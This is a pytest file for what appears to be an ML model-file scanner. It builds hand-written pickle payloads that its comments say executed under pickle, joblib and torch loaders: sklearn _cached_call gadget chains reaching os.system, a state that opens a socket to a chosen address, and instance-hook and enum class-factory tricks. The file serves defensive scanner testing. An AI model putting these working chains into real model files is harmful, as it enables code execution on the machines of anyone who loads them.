"""Red-team bypasses: files a real loader executes that an earlier scanner passed.

Each payload here was loaded once by the real loader (pickle.load / joblib.load / torch.load) in a
sandboxed child process with an audit hook (no network, throwaway directory, dangerous events recorded
and blocked) and reached the event named in its test; see docs/scan.md "Red-team bypasses". The tests
judge the files by the scanner only: a PASS under `--fail-on high` is the defect.
"""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from modelwarden.model import Severity
from modelwarden.scan import scan_paths

_HIGH = (Severity.HIGH, Severity.CRITICAL)


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()  # GLOBAL


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def _put(i: int) -> bytes:
    return b"q" + bytes([i])  # BINPUT


def _get(i: int) -> bytes:
    return b"h" + bytes([i])  # BINGET


def _blocking(tmp_path: Path, data: bytes, name: str = "model.pkl") -> list[str]:
    """Rule ids of the high or critical findings on `data` saved as `name` (what fails --fail-on high)."""
    path = tmp_path / name
    path.write_bytes(data)
    report = scan_paths([path], hash_files=False)
    return [f.rule_id for f in report.findings if f.severity in _HIGH]


# ------------------------------------------------------------------------------------------------------
# 1. An allowlisted *function* called at load time. sklearn.metrics._scorer._cached_call(cache,
#    estimator, name, X) is `cache[name]` or `getattr(estimator, name)(X)`: a getattr-and-call primitive.
#    Chained with BUILD on call results (a bound method forwards its __dict__ to the function, a module
#    takes attributes) it reaches os.system. pickle.load ran os.system("echo PWNED > pwned.txt").
# ------------------------------------------------------------------------------------------------------


_APPLY = ""  # set by chain(): "torch._tensor._rebuild_from_type" makes each call go through it


def _cached_call(cache: bytes, estimator: bytes, *args: bytes) -> bytes:
    func = _global("sklearn.metrics._scorer", "_cached_call")
    arguments = b"(" + cache + estimator + b"".join(args) + b"t"
    if _APPLY == "legacy-module-pid":
        # Legacy torch.save names a module class by persistent id ('module', cls, file, source);
        # torch.load's persistent_load returns cls unchecked when file and source are empty.
        return b"(" + _text("module") + func + b"NNtQ" + arguments + b"R"
    if not _APPLY:
        return func + arguments + b"R"
    # torch._tensor._rebuild_from_type(func, Tensor, args, {}) returns func(*args): an allowlisted
    # rebuild function that calls whatever callable the pickle hands it.
    module, _, name = _APPLY.rpartition(".")
    tensor = _global("torch._tensor", "Tensor")
    return _global(module, name) + b"(" + func + tensor + arguments + b"}tR"


def _tagged(obj: bytes) -> bytes:
    # BUILD {'__sklearn_tags__': <memo 1>}: sklearn's is_classifier() then accepts the object.
    return obj + b"}" + _text("__sklearn_tags__") + _get(1) + b"sb"


def cached_call_chain(command: str, apply: str = "") -> bytes:
    global _APPLY
    _APPLY = apply
    try:
        return _chain(command)
    finally:
        _APPLY = ""


def _chain(command: str) -> bytes:
    none = b"N"
    ops = b"\x80\x02"
    ops += _global("sklearn.dummy", "DummyRegressor") + b")\x81" + _put(0) + b"0"
    ops += _cached_call(none, _get(0), _text("__getattribute__"), _text("__sklearn_tags__")) + _put(1) + b"0"
    bound = _cached_call(none, _get(0), _text("__getattribute__"), _text("get_params"))
    ops += _tagged(bound) + _put(2) + b"0"
    ops += _cached_call(none, _get(2), _text("__getattribute__"), _text("__globals__")) + _put(3) + b"0"
    ops += _tagged(_cached_call(_get(3), none, _text("platform"))) + _put(4) + b"0"
    ops += _tagged(_cached_call(none, _get(4), _text("__getattribute__"), _text("os"))) + _put(5) + b"0"
    ops += _cached_call(none, _get(5), _text("system"), _text(command))
    return ops + b"."


@pytest.mark.parametrize("name", ["model.pkl", "model.joblib"])
def test_allowlisted_function_called_at_load_is_high(tmp_path: Path, name: str) -> None:
    assert _blocking(tmp_path, cached_call_chain("echo PWNED > pwned.txt"), name)


def test_value_only_function_called_through_a_torch_rebuild_function_is_high(tmp_path: Path) -> None:
    # pickle.load ran os.system through torch._tensor._rebuild_from_type(_cached_call, Tensor, ...).
    data = cached_call_chain("echo PWNED > pwned.txt", apply="torch._tensor._rebuild_from_type")
    assert "pickle.call-of-value" in _blocking(tmp_path, data)


@pytest.mark.parametrize("ctor", ["__generator_ctor", "__randomstate_ctor"])
def test_value_only_function_handed_to_numpy_generator_ctor_is_high(tmp_path: Path, ctor: str) -> None:
    # numpy.random._pickle.__generator_ctor(name, ctor) calls ctor(name): any callable the pickle names.
    # (Modelled, not oracle-proven: no value-only function found here does harm with one argument.)
    func = _global("sklearn.metrics._scorer", "_cached_call")
    data = b"\x80\x02" + _global("numpy.random._pickle", ctor) + b"(" + _text("x") + func + b"tR."
    assert "pickle.call-of-value" in _blocking(tmp_path, data)


def test_numpy_generator_pickled_by_numpy_still_passes(tmp_path: Path) -> None:
    import pickle

    import numpy as np

    data = pickle.dumps([np.random.default_rng(1), np.random.RandomState(2)], protocol=2)
    assert _blocking(tmp_path, data) == []


def legacy_torch_file(payload: bytes) -> bytes:
    """A legacy (non-zip) torch.save stream: magic, protocol, sys_info, the object, storage keys."""
    import pickle

    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return magic + pickle.dumps(1001, protocol=2) + info + payload + pickle.dumps([], protocol=2)


def test_value_only_function_called_through_a_legacy_torch_module_pid_is_high(tmp_path: Path) -> None:
    # torch's loader (weights_only off) ran os.system: each call's function came from a 'module' pid.
    payload = cached_call_chain("echo PWNED > pwned.txt", apply="legacy-module-pid")
    assert "pickle.call-of-value" in _blocking(tmp_path, legacy_torch_file(payload), "model.pt")


def test_library_function_called_with_no_arguments_is_high(tmp_path: Path) -> None:
    # Legitimate pickles name library functions as values (a scorer's score_func); none calls one.
    data = b"\x80\x02" + _global("sklearn.metrics._classification", "accuracy_score") + b")R."
    assert "pickle.call-of-value" in _blocking(tmp_path, data)


def test_library_function_stored_as_a_value_still_passes(tmp_path: Path) -> None:
    import pickle

    import sklearn.metrics

    data = pickle.dumps({"score_func": sklearn.metrics.accuracy_score}, protocol=4)
    assert _blocking(tmp_path, data) == []


# ------------------------------------------------------------------------------------------------------
# 2. A class whose __setstate__ reaches the network through a module-level helper. sklearn's
#    ScoringMonitor.__setstate__ calls can_reuse_listener(handle), which opens
#    multiprocessing.connection.Client(handle.address) — an address the file chooses — and then
#    open_listener() binds a socket. pickle.load created a socket to 10.1.2.3:80 (blocked by the hook).
#    The generator only followed calls on `self`; the helper is a module function.
# ------------------------------------------------------------------------------------------------------


def scoring_monitor(host: str, port: int) -> bytes:
    handle = (
        _global("sklearn.callback._transport", "ListenerHandle")
        + b"("
        + _text(host)
        + b"M"
        + struct.pack("<H", port)
        + b"\x86C\x04abcdt\x81"  # NEWOBJ ListenerHandle((host, port), b"abcd")
    )
    state = b"}" + _text("_listener_handle") + handle + b"s" + _text("_log") + b"]s"
    monitor = _global("sklearn.callback._scoring_monitor", "ScoringMonitor") + b")\x81"
    return b"\x80\x02" + monitor + state + b"b."


def test_setstate_reaching_a_socket_through_a_module_helper_is_high(tmp_path: Path) -> None:
    assert _blocking(tmp_path, scoring_monitor("10.1.2.3", 80))


# ------------------------------------------------------------------------------------------------------
# 3. Instance hooks set by BUILD. pickle looks __setstate__ (BUILD) and append/extend (APPEND(S)) up on
#    the instance, so a first BUILD that stores one of them in the instance dict makes the next BUILD or
#    APPENDS call it: a hidden call of any value the pickle holds. pickle.load called
#    accuracy_score("STATE-ARG") this way (it then failed on a missing argument).
# ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("hook", "then"), [("__setstate__", _text("STATE-ARG") + b"b"), ("extend", b"(" + _text("x") + b"e")]
)
def test_build_that_sets_an_instance_hook_is_high(tmp_path: Path, hook: str, then: bytes) -> None:
    func = _global("sklearn.metrics._classification", "accuracy_score")
    namespace = _global("argparse", "Namespace") + b")\x81"
    data = b"\x80\x02" + namespace + b"}" + _text(hook) + func + b"sb" + then + b"."
    assert "pickle.hook-injection" in _blocking(tmp_path, data)


def test_slot_state_that_sets_an_instance_hook_is_high(tmp_path: Path) -> None:
    func = _global("sklearn.metrics._classification", "accuracy_score")
    namespace = _global("argparse", "Namespace") + b")\x81"
    state = b"N}" + _text("append") + func + b"s\x86"  # (None, {'append': f}): setattr per slot
    data = b"\x80\x02" + namespace + state + b"b(" + _text("x") + b"e."
    assert "pickle.hook-injection" in _blocking(tmp_path, data)


@pytest.mark.parametrize(
    ("function", "args"),
    [
        ("torch._utils._rebuild_parameter_with_state", b"\x89}"),  # (data, requires_grad, hooks, state)
        (
            "torch._tensor._rebuild_from_type_v2",
            _global("torch._tensor", "Tensor") + b")",
        ),  # (f, type, args, state)
    ],
)
def test_torch_rebuild_state_that_sets_an_instance_hook_is_high(
    tmp_path: Path, function: str, args: bytes
) -> None:
    # torch's _set_obj_state setattr()s the state onto the rebuilt tensor; the BUILD that follows then
    # calls the stored __setstate__. pickle.load called accuracy_score("STATE-ARG") this way.
    module, _, name = function.rpartition(".")
    tensor = _global("torch._tensor", "Tensor")
    first = tensor + b")R" if "parameter" in function else tensor
    hook = b"}" + _text("__setstate__") + _global("sklearn.metrics._classification", "accuracy_score") + b"s"
    data = (
        b"\x80\x02" + _global(module, name) + b"(" + first + args + hook + b"tR" + _text("STATE-ARG") + b"b."
    )
    assert "pickle.hook-injection" in _blocking(tmp_path, data)


# ------------------------------------------------------------------------------------------------------
# 4. A class built at load time. enum.Enum (allowlisted: pickled enums name their own class) called
#    with a name and a dict is the functional API: it creates a class whose methods are the dict's
#    values, and runs its __init__ per member. pickle.load called accuracy_score(<X.a>, "STATE") so.
# ------------------------------------------------------------------------------------------------------


def test_enum_functional_api_at_load_is_high(tmp_path: Path) -> None:
    body = b"}" + _text("__init__") + _global("sklearn.metrics._classification", "accuracy_score") + b"s"
    body += _text("a") + _text("STATE") + b"s"
    data = b"\x80\x02" + _global("enum", "Enum") + b"(" + _text("X") + body + b"tR."
    assert "pickle.class-factory" in _blocking(tmp_path, data)


def test_enum_member_of_an_allowlisted_enum_still_passes(tmp_path: Path) -> None:
    import pickle

    from transformers.trainer_utils import IntervalStrategy

    assert _blocking(tmp_path, pickle.dumps(IntervalStrategy.STEPS, protocol=2)) == []
